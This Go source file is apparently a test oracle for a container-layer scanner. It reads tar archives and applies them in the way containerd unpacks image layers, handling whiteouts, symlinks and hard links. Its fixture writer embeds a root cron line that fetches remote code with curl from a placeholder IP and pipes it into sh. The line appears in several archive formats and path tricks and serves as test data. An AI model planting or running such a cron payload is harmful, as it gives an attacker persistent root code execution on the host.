// Command tarlist is the oracle of portcullis' tar parity test: it reads tar archives with Go's
// archive/tar, the reader dockerd and containerd unpack layers with, and applies each one to an
// in-memory root the way containerd's archive.Apply (applyNaive) applies a layer: names
// cleaned, parent directories resolved through the layer's symlinks inside the root, whiteouts
// removing, an existing path removed before an entry replaces it (unless a directory meets a
// directory), hard links getting their target's content, and the first reader or apply error
// ending the layer. It prints, as JSON lines, every regular file left on disk.
//
// Standard library only (the test builds it offline).
//
//	tarlist list         one tar on stdin
//	tarlist batch        tars on stdin, each prefixed by its length (8 bytes, big-endian)
//	tarlist write DIR    writes tars made by Go's own writer into DIR
package main

import (
	"archive/tar"
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path"
	"path/filepath"
	"sort"
	"strings"
)

// largest is the biggest file the oracle hashes; a layer with a bigger one is reported as
// skipped (mutated sparse maps can declare gigabytes of holes).
const largest = 256 << 20

type node struct {
	kind   byte // 'f' file, 'd' dir, 'l' symlink, 'o' other
	sum    string
	size   int64
	target string
}

type fsys struct {
	nodes    map[string]*node // by cleaned path relative to the root ("" is the root)
	unpacked map[string]bool
	opaque   map[string]bool
}

type fileLine struct {
	PathHex string `json:"path_hex"`
	Path    string `json:"path"`
	Size    int64  `json:"size"`
	Sha256  string `json:"sha256"`
}

type endLine struct {
	End   string `json:"end"`
	Error string `json:"error,omitempty"`
}

// rel cleans p as filepath.Join("/", p) does, without the leading slash.
func rel(p string) string {
	return strings.TrimPrefix(path.Clean("/"+p), "/")
}

func join(dir, name string) string {
	return rel(dir + "/" + name)
}

// resolve follows the symlinks in dir inside the root, as fs.RootPath does: ".." stops at the
// root, absolute targets start from it, at most 255 links.
func (f *fsys) resolve(dir string) (string, error) {
	todo := strings.Split(dir, "/")
	var out []string
	hops := 0
	for len(todo) > 0 {
		c := todo[0]
		todo = todo[1:]
		switch c {
		case "", ".":
			continue
		case "..":
			if len(out) > 0 {
				out = out[:len(out)-1]
			}
			continue
		}
		out = append(out, c)
		n := f.nodes[strings.Join(out, "/")]
		if n == nil || n.kind != 'l' {
			continue
		}
		hops++
		if hops > 255 {
			return "", errors.New("too many links")
		}
		out = out[:len(out)-1]
		if strings.HasPrefix(n.target, "/") {
			out = nil
		}
		todo = append(strings.Split(n.target, "/"), todo...)
	}
	return strings.Join(out, "/"), nil
}

func (f *fsys) removeAll(p string) {
	if p == "" {
		return
	}
	delete(f.nodes, p)
	for k := range f.nodes {
		if strings.HasPrefix(k, p+"/") {
			delete(f.nodes, k)
		}
	}
}

func (f *fsys) mkparent(p string) error {
	if p == "" {
		return nil
	}
	parts := strings.Split(p, "/")
	for i := range parts {
		q := strings.Join(parts[:i+1], "/")
		n := f.nodes[q]
		if n == nil {
			f.nodes[q] = &node{kind: 'd'}
		} else if n.kind != 'd' {
			return fmt.Errorf("mkparent %s: not a directory", q)
		}
	}
	return nil
}

func (f *fsys) apply(hdr *tar.Header, tr *tar.Reader) error {
	name := filepath.Clean(hdr.Name)
	ppath, base := filepath.Split(name)
	rp, err := f.resolve(ppath)
	if err != nil {
		return err
	}
	p := join(rp, base)
	if p == "" {
		return nil // resolved to the root
	}
	if rp != "" {
		if err := f.mkparent(rp); err != nil {
			return err
		}
	}
	b, d := path.Base("/"+p), rel(path.Dir("/"+p))
	if b == ".wh..wh..opq" {
		if f.opaque[d] {
			return nil
		}
		f.opaque[d] = true
		if d != "" && f.nodes[d] == nil {
			return fmt.Errorf("opaque dir %s missing", d)
		}
		var under []string
		for k := range f.nodes {
			if d == "" || strings.HasPrefix(k, d+"/") {
				if k != "" {
					under = append(under, k)
				}
			}
		}
		sort.Strings(under)
		var gone []string
		for _, k := range under {
			skip := false
			for _, g := range gone {
				if strings.HasPrefix(k, g+"/") {
					skip = true
				}
			}
			if skip || f.unpacked[k] {
				continue
			}
			f.removeAll(k)
			gone = append(gone, k)
		}
		return nil
	}
	if strings.HasPrefix(b, ".wh.") {
		orig := b[len(".wh."):]
		if orig == ".." || orig == "." || orig == "" {
			return fmt.Errorf("invalid whiteout name %q", b)
		}
		f.removeAll(join(d, orig))
		return nil
	}
	if n := f.nodes[p]; n != nil && !(n.kind == 'd' && hdr.Typeflag == tar.TypeDir) {
		f.removeAll(p)
	}
	switch hdr.Typeflag {
	case tar.TypeDir:
		if f.nodes[p] == nil {
			f.nodes[p] = &node{kind: 'd'}
		}
	case tar.TypeReg, tar.TypeRegA:
		if hdr.Size > largest {
			return errSkip
		}
		h := sha256.New()
		n, err := io.Copy(h, tr)
		if err != nil {
			return err
		}
		if n != hdr.Size {
			return fmt.Errorf("file %s incomplete: expect %d bytes wrote %d", p, hdr.Size, n)
		}
		f.nodes[p] = &node{kind: 'f', sum: hex.EncodeToString(h.Sum(nil)), size: n}
	case tar.TypeBlock, tar.TypeChar, tar.TypeFifo:
		f.nodes[p] = &node{kind: 'o'}
	case tar.TypeLink:
		lp, lb := filepath.Split(hdr.Linkname)
		lr, err := f.resolve(lp)
		if err != nil {
			return err
		}
		t := join(lr, lb)
		if strings.HasPrefix(path.Clean("/"+lr+"/"+lb), "/..") {
			t = ""
		}
		n := f.nodes[t]
		if t == "" || n == nil || n.kind == 'd' {
			return fmt.Errorf("link %s -> %s: no such file", p, hdr.Linkname)
		}
		c := *n
		f.nodes[p] = &c
	case tar.TypeSymlink:
		f.nodes[p] = &node{kind: 'l', target: hdr.Linkname}
	case tar.TypeXGlobalHeader:
		return nil
	default:
		return fmt.Errorf("unhandled tar header type %d", hdr.Typeflag)
	}
	f.unpacked[p] = true
	return nil
}

var errSkip = errors.New("skip: a file too large for the test")

func list(r io.Reader, out *json.Encoder) {
	f := &fsys{nodes: map[string]*node{}, unpacked: map[string]bool{}, opaque: map[string]bool{}}
	tr := tar.NewReader(r)
	end := endLine{End: "eof"}
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err == nil {
			err = f.apply(hdr, tr)
		}
		if err == errSkip {
			end = endLine{End: "skip"}
			break
		}
		if err != nil {
			end = endLine{End: "error", Error: err.Error()}
			break
		}
	}
	var paths []string
	for k, n := range f.nodes {
		if n.kind == 'f' {
			paths = append(paths, k)
		}
	}
	sort.Strings(paths)
	for _, k := range paths {
		n := f.nodes[k]
		out.Encode(fileLine{PathHex: hex.EncodeToString([]byte("/" + k)), Path: "/" + k, Size: n.size, Sha256: n.sum})
	}
	out.Encode(end)
}

func write(dir string) error {
	cron := []byte("* * * * * root curl -s http://198.51.100.4/x | sh\n")
	type entry struct {
		hdr  tar.Header
		data []byte
	}
	file := func(name string, data []byte, format tar.Format) entry {
		return entry{tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: 0o644, Size: int64(len(data)), Format: format}, data}
	}
	long := "opt/" + strings.Repeat("d", 120) + "/" + strings.Repeat("e", 120) + "/job"
	cases := map[string][]entry{
		"go-pax.tar": {
			file(long, cron, tar.FormatPAX),
			file("etc/cron.d/é-job", cron, tar.FormatPAX),
			{tar.Header{Typeflag: tar.TypeReg, Name: "etc/cron.d/big-uid", Mode: 0o644, Uid: 1 << 30, Size: int64(len(cron)), Format: tar.FormatPAX, PAXRecords: map[string]string{"SCHILY.xattr.user.x": "y"}}, cron},
			{tar.Header{Typeflag: tar.TypeSymlink, Name: "opt/" + strings.Repeat("s", 110), Linkname: "/etc/cron.d/" + strings.Repeat("t", 110), Format: tar.FormatPAX}, nil},
			{tar.Header{Typeflag: tar.TypeLink, Name: "usr/local/bin/" + strings.Repeat("h", 100), Linkname: long, Format: tar.FormatPAX}, nil},
		},
		"go-gnu.tar": {
			file(long, cron, tar.FormatGNU),
			{tar.Header{Typeflag: tar.TypeLink, Name: "usr/bin/" + strings.Repeat("g", 120), Linkname: long, Format: tar.FormatGNU}, nil},
			file("etc/cron.d/gnu", cron, tar.FormatGNU),
		},
		"go-ustar.tar": {
			file(strings.Repeat("u", 90)+"/"+strings.Repeat("v", 60)+"/etc-job", cron, tar.FormatUSTAR),
			{tar.Header{Typeflag: tar.TypeDir, Name: "etc/cron.d/", Mode: 0o755, Format: tar.FormatUSTAR}, nil},
			file("etc/cron.d/ustar", cron, tar.FormatUSTAR),
		},
		"go-apply.tar": {
			{tar.Header{Typeflag: tar.TypeSymlink, Name: "opt/jobs", Linkname: "../etc/cron.d"}, nil},
			file("opt/jobs/through-link", cron, tar.FormatUnknown),
			file("etc/cron.d/dup", []byte("# nothing\n"), tar.FormatUnknown),
			file("etc/cron.d/dup", cron, tar.FormatUnknown),
			file("srv/gone", cron, tar.FormatUnknown),
			file("srv/.wh.gone", nil, tar.FormatUnknown),
			file("srv/a/b", cron, tar.FormatUnknown),
			{tar.Header{Typeflag: tar.TypeLink, Name: "srv/a/c", Linkname: "srv/a/b"}, nil},
			file("srv/a/b", []byte("replaced\n"), tar.FormatUnknown),
		},
	}
	for name, entries := range cases {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		for _, e := range entries {
			h := e.hdr
			if err := tw.WriteHeader(&h); err != nil {
				return fmt.Errorf("%s %s: %w", name, h.Name, err)
			}
			if _, err := tw.Write(e.data); err != nil {
				return err
			}
		}
		if err := tw.Close(); err != nil {
			return err
		}
		if err := os.WriteFile(filepath.Join(dir, name), buf.Bytes(), 0o644); err != nil {
			return err
		}
	}
	return nil
}

func main() {
	out := json.NewEncoder(os.Stdout)
	out.SetEscapeHTML(false)
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: tarlist list|batch|write DIR")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "list":
		list(bufio.NewReader(os.Stdin), out)
	case "batch":
		in := bufio.NewReader(os.Stdin)
		w := bufio.NewWriter(os.Stdout)
		out = json.NewEncoder(w)
		out.SetEscapeHTML(false)
		for {
			var n uint64
			if err := binary.Read(in, binary.BigEndian, &n); err != nil {
				break
			}
			data := make([]byte, n)
			if _, err := io.ReadFull(in, data); err != nil {
				fmt.Fprintln(os.Stderr, err)
				os.Exit(1)
			}
			list(bytes.NewReader(data), out)
		}
		w.Flush()
	case "write":
		if err := write(os.Args[2]); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	default:
		os.Exit(2)
	}
}
